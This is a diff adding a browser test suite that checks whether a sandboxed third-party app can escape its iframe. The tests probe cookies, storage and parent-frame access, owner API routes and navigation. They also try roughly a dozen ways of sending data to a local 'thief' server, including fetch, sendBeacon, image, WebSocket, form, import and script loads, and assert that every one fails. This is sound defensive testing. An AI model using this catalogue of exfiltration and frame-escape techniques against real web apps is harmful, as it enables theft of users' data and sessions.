@@ -1,0 +1,189 @@
+// A hostile app, installed by its owner and opened through the router, tries to get out of its frame.
+
+import assert from "node:assert/strict";
+import { mkdirSync, rmSync, writeFileSync } from "node:fs";
+import { createServer } from "node:http";
+import { join } from "node:path";
+import { after, afterEach, before } from "node:test";
+import { app, asOwner, browser, end, ready, stack, test, until, visitor } from "./support.mjs";
+
+const SLUG = "hostile";
+const folder = join(stack.owner.home, "apps", SLUG);
+let chrome;
+let visits = [];
+/** A site of somebody else, which notes every request. */
+let thief;
+const stolen = [];
+
+const PAGE = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Hostile</title></head><body>
+<a id="other" href="/apps/notes/">notes</a><a id="out" target="_blank" href="/">out</a>
+<script src="attack.js"></script></body></html>`;
+
+before(async () => {
+  await ready();
+  thief = createServer((request, answer) => {
+    stolen.push(request.url);
+    answer.writeHead(200, { "access-control-allow-origin": "*" }).end("thanks");
+  });
+  await new Promise((listening) => thief.listen(0, "127.0.0.1", listening));
+  install();
+  await until("the hostile app", async () => {
+    const { apps } = JSON.parse((await asOwner("/api/apps")).body);
+    assert.equal(apps.find(({ slug }) => slug === SLUG)?.status, "ready");
+  });
+  chrome = await browser();
+});
+after(async () => {
+  await end(chrome);
+  thief?.close();
+  rmSync(folder, { recursive: true, force: true });
+});
+afterEach(async () => {
+  await Promise.all(visits.map(({ context }) => context.close()));
+  visits = [];
+});
+
+function install(more = {}) {
+  mkdirSync(join(folder, "dist"), { recursive: true });
+  writeFileSync(join(folder, "dist/index.html"), PAGE);
+  writeFileSync(join(folder, "dist/attack.js"), "window.loaded = true;");
+  writeFileSync(join(folder, "dist/worker.js"), "addEventListener('fetch', () => {});");
+  const manifest = { name: "Hostile", slug: SLUG, version: "1", runtime: "static", ...more };
+  writeFileSync(join(folder, "svc.json"), JSON.stringify(manifest));
+}
+
+async function open() {
+  const visit = await visitor(chrome);
+  visits.push(visit);
+  // A session of the router, too, and something in the origin's storage that the owner's pages left there.
+  await visit.page.goto(`${app}/`);
+  await visit.page.evaluate(() => localStorage.setItem("owner", "secret"));
+  await visit.page.goto(`${app}/apps/${SLUG}/`);
+  const frame = await until("the frame", async () => {
+    const found = visit.page.frames().find((frame) => frame.url().includes(`/apps/${SLUG}/~`));
+    assert.ok(found && (await found.evaluate(() => window.loaded)));
+    return found;
+  });
+  return { ...visit, frame };
+}
+
+/** What an expression in the app's page comes to: a value, or the name of its error. */
+const attempt = (frame, source) =>
+  frame.evaluate(async (source) => {
+    try {
+      const value = await (0, eval)(`(async () => (${source}))()`);
+      return { value: value instanceof Response ? value.status : (value ?? null) };
+    } catch (error) {
+      return { error: error.name };
+    }
+  }, source);
+
+test("cookies, storage and the parent's page are closed to an app", async () => {
+  const { frame, context } = await open();
+  assert.ok((await context.cookies()).some(({ name }) => name === "__session"), "there is something to steal");
+  for (const source of [
+    "document.cookie", "localStorage.length", "sessionStorage.length", "indexedDB.open('x')", "caches.open('x')",
+    "parent.document.body.innerHTML", "top.location.href", "parent.localStorage.owner", "frameElement.outerHTML",
+    "navigator.serviceWorker.register('worker.js')",
+  ]) {
+    const { error, value } = await attempt(frame, source);
+    assert.ok(error || value === null, `${source}: ${JSON.stringify(value)}`);
+  }
+  assert.equal(await frame.evaluate(() => window.origin), "null");
+});
+
+test("the owner's routes, other apps' pages and rows are closed to an app", async () => {
+  const { frame } = await open();
+  const token = new URL(frame.url()).pathname.split("~")[1].split("/")[0];
+  const withToken = `{ headers: { authorization: "Bearer ${token}" } }`;
+  const find = (of) => `fetch("/api/bridge/query", { method: "POST",
+    headers: { authorization: "Bearer ${token}", "content-type": "application/json" },
+    body: JSON.stringify({ app: "${of}", table: "notes", action: "find" }) })`;
+  for (const source of [
+    `fetch("/api/usage")`, `fetch("/api/usage", { credentials: "include" })`, `fetch("/api/usage", ${withToken})`,
+    `fetch("/api/dispatch", { method: "POST", headers: { authorization: "Bearer ${token}" }, body: "{}" })`,
+    `fetch("/_svc/slots", ${withToken})`, `fetch("/_svc/slots", { credentials: "include" })`,
+    `fetch("/_svc/app-token", { method: "POST", credentials: "include", body: '{"app":"notes"}' })`,
+    `fetch("/_svc/sign-out", { method: "POST", credentials: "include" })`,
+    `fetch("/apps/notes/~${token}/")`, `fetch("/apps/notes/", ${withToken})`, `fetch("/apps/notes/", { credentials: "include" })`,
+    find("notes"),
+  ]) {
+    const { error, value } = await attempt(frame, source);
+    assert.ok(error || [400, 401, 403, 404].includes(value), `${source}: ${JSON.stringify({ error, value })}`);
+  }
+  assert.equal((await asOwner("/api/usage")).status, 200, "the owner is still signed in, and may");
+});
+
+test("an app neither leaves its frame nor leads it to another app", async () => {
+  const { frame, page, context } = await open();
+  const here = page.url();
+  await attempt(frame, `top.location = "${app}/?taken"`);
+  await attempt(frame, `top.location.replace("${app}/?taken")`);
+  await attempt(frame, `document.querySelector("#other").click()`);
+  await attempt(frame, `location.assign("/apps/notes/")`);
+  await page.waitForTimeout(500);
+  assert.equal(page.url(), here);
+  assert.ok(!page.frames().some((frame) => frame.url().includes("/apps/notes/")), page.frames().map((it) => it.url()).join(" "));
+  const { frame: fresh, page: second } = await open();
+  // Without a click no window opens; with one, the window has an origin of its own.
+  assert.deepEqual(await attempt(fresh, `window.open("/") === null`), { value: true });
+  const [popup] = await Promise.all([second.context().waitForEvent("page"), fresh.locator("#out").click()]);
+  await popup.waitForLoadState();
+  assert.notEqual(await popup.evaluate(() => window.origin), app);
+  assert.ok(context);
+});
+
+test("an app's page opened on its own runs in an origin of its own", async () => {
+  const { frame, context } = await open();
+  const alone = await context.newPage();
+  await alone.goto(frame.url());
+  assert.equal(await alone.evaluate(() => window.origin), "null");
+  const { error, value } = await attempt(alone.mainFrame(), "localStorage.owner");
+  assert.ok(error, String(value));
+});
+
+test("data leaves to the origins that the manifest names, and to no other", async () => {
+  const { frame } = await open();
+  const { port } = thief.address();
+  const site = `http://localhost:${port}`;
+  const ways = [
+    `fetch("${site}/fetch?rows")`, `navigator.sendBeacon("${site}/beacon?rows", "x")`,
+    `new Promise((done) => { const image = new Image(); image.onload = image.onerror = done; image.src = "${site}/image?rows"; })`,
+    `new Promise((done) => { const xhr = new XMLHttpRequest(); xhr.onloadend = done; xhr.open("GET", "${site}/xhr"); xhr.send(); })`,
+    `new Promise((done) => { const socket = new WebSocket("ws://localhost:${port}/socket"); socket.onerror = socket.onopen = done; })`,
+    `new Promise((done) => { const link = document.createElement("link"); link.rel = "stylesheet"; link.href = "${site}/style"; link.onload = link.onerror = done; document.head.append(link); })`,
+    `new Promise((done) => { const script = document.createElement("script"); script.src = "${site}/script"; script.onload = script.onerror = done; document.head.append(script); })`,
+    `new Promise((done) => { const inner = document.createElement("iframe"); inner.src = "${site}/frame"; inner.onload = done; document.body.append(inner); setTimeout(done, 500); })`,
+    `new Promise((done) => { const form = document.createElement("form"); form.action = "${site}/form"; document.body.append(form); form.submit(); setTimeout(done, 500); })`,
+    `import("${site}/module")`,
+    `new Promise((done) => { location.href = "${site}/navigation?rows"; setTimeout(done, 500); })`,
+  ];
+  for (const source of ways) await attempt(frame, source).catch(() => undefined);
+  await new Promise((done) => setTimeout(done, 300));
+  assert.deepEqual(stolen, []);
+
+  const list = JSON.parse((await asOwner("/api/apps")).body).apps;
+  assert.deepEqual(list.find(({ slug }) => slug === SLUG).connect, []);
+  install({ connect: ["https://api.example.com"] });
+  await until("the list that the owner sees", async () => {
+    const { apps } = JSON.parse((await asOwner("/api/apps")).body);
+    assert.deepEqual(apps.find(({ slug }) => slug === SLUG).connect, ["https://api.example.com"]);
+  });
+  const visit = await visitor(chrome);
+  visits.push(visit);
+  let asked = 0;
+  await visit.context.route("https://*.example.com/**", (route) => {
+    asked += route.request().url().startsWith("https://api.example.com/") ? 1 : 100;
+    return route.fulfill({ status: 200, headers: { "access-control-allow-origin": "*" }, body: "x" });
+  });
+  await visit.page.goto(`${app}/`);
+  await visit.page.getByText("connects to api.example.com").waitFor();
+  await visit.page.goto(`${app}/apps/${SLUG}/`);
+  await until("a request to the named origin", async () => {
+    const inner = visit.page.frames().find((frame) => frame.url().includes(`/apps/${SLUG}/~`));
+    assert.deepEqual(await attempt(inner, `fetch("https://api.example.com/a")`), { value: 200 });
+  });
+  const inner = visit.page.frames().find((frame) => frame.url().includes(`/apps/${SLUG}/~`));
+  assert.ok((await attempt(inner, `fetch("https://other.example.com/a")`)).error);
+  assert.ok(asked >= 1 && asked < 100, String(asked));
+});
